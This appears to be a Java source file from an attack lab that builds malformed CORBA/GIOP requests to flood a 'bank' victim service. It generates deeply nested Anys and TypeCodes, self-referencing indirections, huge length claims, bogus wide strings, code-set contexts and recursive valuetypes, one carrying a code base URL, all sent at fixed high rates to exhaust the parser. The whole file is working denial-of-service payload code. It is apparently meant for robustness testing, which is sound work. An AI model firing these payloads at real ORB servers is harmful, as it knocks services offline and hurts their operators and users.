package org.amo.lab.attack;

import java.io.IOException;
import java.util.List;
import java.util.function.Consumer;

/** Arguments that cost a reader more than they cost their writer. */
final class CdrAttacks {
    private static final int CODE_SETS = 1;
    private static final int TK_NULL = 0;
    private static final int TK_LONG = 3;
    private static final int TK_ANY = 11;
    private static final int TK_STRUCT = 15;
    private static final int TK_SEQUENCE = 19;
    private static final int TK_ARRAY = 20;
    private static final int INDIRECTION = -1;
    private static final int VALUE = 0x7FFF_FF02;

    private CdrAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.onBank(
                        "codesets",
                        "unknown code sets, and others on each request of a connection, 500 a second",
                        CdrAttacks::codeSets),
                Attack.onBank(
                        "wide-strings",
                        "wide strings of odd, negative and huge lengths, with and without byte order marks, 300 a second",
                        (target, pace) -> onVictim(target, pace, 300, "takeWide", CdrAttacks::wide)),
                Attack.onBank(
                        "deep-any",
                        "Anys in Anys, 2,000 to 100,000 deep, and TypeCodes of sequences in sequences, 500 to 5,000 deep, 20 a second",
                        (target, pace) -> onVictim(
                                target, pace, 20, "takeAny", i -> i % 2 == 0 ? deepAny(i / 2) : deepTypeCode(i / 2))),
                Attack.onBank(
                        "odd-typecodes",
                        "TypeCodes that contain themselves by indirections, or claim 2^31 elements, 100 a second",
                        (target, pace) -> onVictim(
                                target, pace, 100, "takeAny", i -> i % 2 == 0 ? recursive(i / 2) : hugeArray(i / 2))),
                Attack.onBank(
                        "recursive-values",
                        "valuetypes with indirections to themselves and code bases elsewhere, 100 a second",
                        (target, pace) -> onVictim(target, pace, 100, "takeValue", CdrAttacks::value)));
    }

    /** Writes the arguments of one request. */
    @FunctionalInterface
    private interface Arguments {
        Consumer<Cdr> of(int index);
    }

    private static void onVictim(
            Target target, AttackRate pace, double perSecond, String operation, Arguments arguments)
            throws IOException, InterruptedException {
        byte[] key = Giop.objectKey(target.victim());
        GiopAttacks.flood(target, pace, key, perSecond, (same, i) -> Giop.request(i, same, operation, arguments.of(i)));
    }

    private static void codeSets(Target target, AttackRate pace) throws IOException, InterruptedException {
        int[] sets = {0x0001_0001, 0x0501_0001, 0x0001_0109, 0, -1, 0x1234_5678};
        GiopAttacks.flood(target, pace, 500, (key, i) -> {
            byte[] context = Cdr.encapsulation()
                    .uLong(sets[i % sets.length])
                    .uLong(sets[i / sets.length % sets.length])
                    .toBytes();
            return Giop.request(
                    i,
                    key,
                    "deposit",
                    List.of(new Giop.Context(CODE_SETS, context)),
                    RawClient.deposit(target.account()));
        });
    }

    private static Consumer<Cdr> wide(int index) {
        int[] lengths = {0, 1, 3, 7, 2, -1, Integer.MAX_VALUE, 64};
        return out -> out.uLong(lengths[index % lengths.length])
                .raw((byte) (index % 2 == 0 ? 0xFE : 0xFF), (byte) (index % 2 == 0 ? 0xFF : 0xFE))
                .raw(new byte[index % 64]);
    }

    private static Consumer<Cdr> deepAny(int index) {
        int depth = index % 4 == 0 ? 100_000 : 2_000;
        return out -> {
            for (int i = 0; i < depth; i++) {
                out.uLong(TK_ANY);
            }
            out.uLong(TK_NULL);
        };
    }

    /** A sequence's TypeCode is an encapsulation: kind, length, byte order, the element's TypeCode, the bound. */
    private static Consumer<Cdr> deepTypeCode(int index) {
        int depth = index % 4 == 0 ? 5_000 : 500;
        return out -> {
            for (int i = 0; i < depth; i++) {
                // Byte order, padding and bound: 8 bytes behind the element; each level adds 16.
                out.uLong(TK_SEQUENCE).uLong(4 + (depth - i - 1) * 16 + 4 + 4).uLong(0);
            }
            out.uLong(TK_LONG);
            for (int i = 0; i < depth; i++) {
                out.uLong(0);
            }
            out.uLong(0);
        };
    }

    private static Consumer<Cdr> recursive(int index) {
        int[] offsets = {-4, -8, -12, -40, 0, 4, 8, Integer.MIN_VALUE, Integer.MAX_VALUE, -44};
        return out -> {
            out.uLong(TK_STRUCT);
            int length = out.size();
            out.uLong(0);
            int begin = out.size();
            out.octet(0).string("IDL:x:1.0").string("x").uLong(1).string("m");
            if (index % 2 == 0) {
                out.uLong(TK_SEQUENCE).uLong(16).uLong(0);
            }
            out.uLong(INDIRECTION).uLong(offsets[index / 2 % offsets.length]).uLong(0);
            out.patchULong(length, out.size() - begin).uLong(1).uLong(1);
        };
    }

    private static Consumer<Cdr> hugeArray(int index) {
        int[] claims = {Integer.MAX_VALUE, -1, Integer.MIN_VALUE, 1 << 28, 1 << 20};
        int claim = claims[index % claims.length];
        int kind = index % 2 == 0 ? TK_ARRAY : TK_SEQUENCE;
        return out -> {
            out.uLong(kind);
            int length = out.size();
            out.uLong(0);
            int begin = out.size();
            out.octet(0).uLong(TK_LONG).uLong(kind == TK_ARRAY ? claim : 0);
            out.patchULong(length, out.size() - begin).uLong(claim).uLong(1);
        };
    }

    private static Consumer<Cdr> value(int index) {
        return switch (index % 5) {
            case 0 -> out -> out.uLong(INDIRECTION).uLong(-4).uLong(0);
            case 1 ->
                out -> out.uLong(VALUE)
                        .string("IDL:no/such/Value:1.0")
                        .uLong(INDIRECTION)
                        .uLong(-4);
            case 2 ->
                // A code base: a URL from which classes would come.
                out -> out.uLong(VALUE | 1).string("http://127.0.0.1:1/x.jar").string("RMI:java.util.HashMap:0:0");
            case 3 ->
                // A list of repository ids.
                out -> out.uLong(VALUE | 6)
                        .uLong(index % 2 == 0 ? Integer.MAX_VALUE : 1 << 24)
                        .raw(new byte[64]);
            default ->
                out -> out.uLong(VALUE | 8)
                        .string("IDL:x:1.0")
                        .uLong(Integer.MAX_VALUE)
                        .raw(new byte[64]);
        };
    }
}
